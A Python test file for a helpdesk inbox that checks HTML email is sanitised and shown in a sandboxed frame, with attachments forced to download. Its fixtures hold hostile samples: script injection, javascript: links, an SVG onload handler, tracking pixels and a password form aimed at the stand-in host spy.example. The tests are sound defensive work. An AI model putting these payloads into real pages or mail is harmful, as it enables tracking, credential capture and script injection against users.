"""HTML mail on the conversation's page: in a frame that can do nothing, without a request."""

import base64
import re

from sqlmodel import Session

from inbox.channels.webform import pack_file
from inbox.staging import Arrival, stage
from inbox.store.company import list_doors
from models import Agent, Attachment, ChannelKind, Message
from tests.web.scene import NOW, Scene

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HTML = """<style>@import url(http://spy.example/s.css)</style>
<p style="color:#c00;position:fixed;background:url(http://spy.example/b)">Chào shop</p>
<img src="cid:logo@x"><img src="cid:fake@x"><img src="http://spy.example/p.gif?u=1" width=1>
<img src="//spy.example/q.gif"><script>parent.document.title = "pwned"</script>
<a href="https://shop.example/order">order</a><a href="javascript:alert(1)">bad</a>
<form action="http://spy.example"><input name="password"></form>"""
RELATED = """From: Mai <mai@vidu.example>
To: help@congty.example
Subject: Ảnh
Message-ID: <html-1@vidu.example>
MIME-Version: 1.0
Content-Type: multipart/related; boundary=b

--b
Content-Type: text/html; charset=utf-8

{html}
--b
Content-Type: image/svg+xml; name=fake.png
Content-ID: <fake@x>

<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
--b
Content-Type: text/x-anything; name=logo.png
Content-Transfer-Encoding: base64
Content-ID: <logo@x>

{png}
--b--
"""


async def arrive(scene: Scene, html: str = HTML) -> Message:
    raw = RELATED.format(html=html, png=base64.b64encode(PNG).decode())

    def work(session: Session) -> None:
        door = list_doors(session, ChannelKind.EMAIL)[0]
        meta = {"from": "mai@vidu.example", "rcpt": ["help@congty.example"]}
        stage(session, Arrival(door.id, ChannelKind.EMAIL, "h1", raw.encode(), meta), NOW)

    await scene.write(work)
    said = await scene.all(Message)
    return next(one for one in said if one.contact_id is not None)


async def test_the_page_shows_words_and_offers_the_frame(scene: Scene) -> None:
    """R35: nothing of the mail's own markup is in our page, and no address of its pictures."""
    message = await arrive(scene)
    browser = await scene.signed_in("ha")
    page = (await browser.get(f"/inbox/{message.conversation_id}")).text
    assert "Chào shop" in page
    assert "spy.example" not in page
    path = f"/inbox/{message.conversation_id}/messages/{message.id}/html"
    (frame,) = re.findall(r"<iframe [^>]*>", page)
    assert f'src="{path}"' in frame
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame
    assert f'href="{path}?images=1" target="mail-{message.id}"' in page
    assert "Load 2 images from elsewhere" in page


async def test_the_frame_can_do_nothing(scene: Scene) -> None:
    """R34 and S1: neither what is left of the HTML nor its policy lets anything run."""
    message = await arrive(scene)
    browser = await scene.signed_in("ha")
    answer = await browser.get(f"/inbox/{message.conversation_id}/messages/{message.id}/html")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    (policy,) = answer.headers.get_list("content-security-policy")
    assert policy.startswith("sandbox allow-popups allow-popups-to-escape-sandbox; ")
    assert "default-src 'none'" in policy
    assert "img-src data:;" in policy
    assert "script" not in policy
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert "no-store" in answer.headers["cache-control"]
    text = answer.text
    for gone in ("<script", "javascript:", "<form", "<input", "@import", "position", "url("):
        assert gone not in text
    assert 'src="http' not in text
    assert 'src="remote' not in text
    assert 'href="https://shop.example/order"' in text
    assert 'rel="noopener noreferrer nofollow"' in text


async def test_pictures_that_came_with_it_are_in_their_place(scene: Scene) -> None:
    """R36: known by their first bytes; what only says that it is a picture is none."""
    message = await arrive(scene)
    browser = await scene.signed_in("ha")
    path = f"/inbox/{message.conversation_id}/messages/{message.id}/html"
    text = (await browser.get(path)).text
    assert f'src="data:image/png;base64,{base64.b64encode(PNG).decode()}"' in text
    assert "svg" not in text
    assert "cid:" not in text


async def test_pictures_from_elsewhere_come_after_a_click(scene: Scene) -> None:
    """R35 and S3."""
    message = await arrive(scene)
    browser = await scene.signed_in("ha")
    path = f"/inbox/{message.conversation_id}/messages/{message.id}/html"
    answer = await browser.get(f"{path}?images=1")
    assert 'src="http://spy.example/p.gif?u=1"' in answer.text
    assert 'src="https://spy.example/q.gif"' in answer.text
    assert "img-src data: https: http:;" in answer.headers["content-security-policy"]
    assert "images=1" not in (await browser.get(path)).text


async def test_the_frame_is_nobody_elses(scene: Scene) -> None:
    """Another conversation's number, another team, no layout: there is nothing."""
    message = await arrive(scene)
    number = message.conversation_id
    other = await scene.arrive()
    browser = await scene.signed_in("ha")
    path = f"/inbox/{{}}/messages/{message.id}/html"
    assert (await browser.get(path.format(other))).status_code == 404
    assert (await browser.get(f"/inbox/{number}/messages/{2**40}/html")).status_code == 404
    outside = await scene.signed_in("dung" if await in_orders(scene, number) else "binh")
    assert (await outside.get(path.format(number))).status_code == 404


async def in_orders(scene: Scene, number: int) -> bool:
    return (await scene.get(number)).team_id == await scene.team("Orders")


async def test_what_is_too_deep_is_shown_as_text(scene: Scene) -> None:
    """S4: and says so."""
    message = await arrive(scene, "<div>" * 5000 + "Chào shop")
    browser = await scene.signed_in("ha")
    page = (await browser.get(f"/inbox/{message.conversation_id}")).text
    assert "<iframe" not in page
    assert "Chào shop" in page
    assert "shown as text" in page


async def test_no_kind_of_file_is_shown(scene: Scene) -> None:
    """R36 and S2: each is a download, whatever it calls itself or is."""
    kinds = (
        ("a.js", "text/javascript"),
        ("a.svg", "image/svg+xml"),
        ("a.svg", "image/svg+xml; x"),
        ("a.html", "text/html"),
        ("a.xml", "application/xml"),
        ("a.pdf", "application/pdf"),
        ("a.shtml", "text/html"),
        ("a.png", "image/png"),
    )
    files = tuple(pack_file(name, kind, b"<script>alert(1)</script>") for name, kind in kinds)
    await scene.arrive(files=files)
    browser = await scene.signed_in("ha")
    stored = await scene.all(Attachment)
    assert len(stored) == len(kinds)
    for one in stored:
        assert re.fullmatch(r"[A-Za-z0-9_-]{20,}", one.blob_id)
        answer = await browser.get(f"/files/{one.blob_id}")
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment;")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'"


async def test_what_is_said_of_the_reading_is_said_in_the_readers_language(
    scene: Scene,
) -> None:
    """Ours is translated; what came with the message stays as it is."""
    message = await arrive(scene, "<div>" * 5000 + "Chào shop")
    browser = await scene.signed_in("ha", "vi")
    who = await scene.agent("ha")

    def speak_vietnamese(session: Session) -> None:
        session.get_one(Agent, who.id).language = "vi"

    await scene.write(speak_vietnamese)
    page = (await browser.get(f"/inbox/{message.conversation_id}")).text
    assert "hiển thị dưới dạng chữ" in page
